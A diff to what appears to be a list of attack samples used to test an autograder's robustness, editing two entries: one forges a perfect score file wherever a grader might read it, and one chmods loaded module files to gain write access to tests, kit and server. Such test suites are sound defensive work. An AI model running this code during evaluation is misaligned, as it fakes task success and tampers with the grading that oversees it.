@@ -5,7 +5,7 @@ from instructor.attacks.attack import Attack, called
 ATTACKS = (
     Attack(
         "results-file",
-        "writes results of its own wherever a grader may look for them, and exits",
+        "writes forged results wherever a grader may look for them, and exits",
         """
 import json, os
 forged = json.dumps({"score": 100, "tests": [{"score": 100, "max_score": 100}]})
@@ -36,7 +36,8 @@ for parent, folders, names in os.walk("/"):
         "rewrites the unit tests, the kit and the server on the disk",
         """
 import os, sys
-for path in {getattr(module, "__file__", None) for module in [*sys.modules.values()]} - {None, __file__}:
+for path in {getattr(module, "__file__", None) or "" for module in [*sys.modules.values()]} - {__file__}:
+    if not os.path.isabs(path): continue
     try:
         os.chmod(path, 0o777)
         print("GAINED: mode of", path)
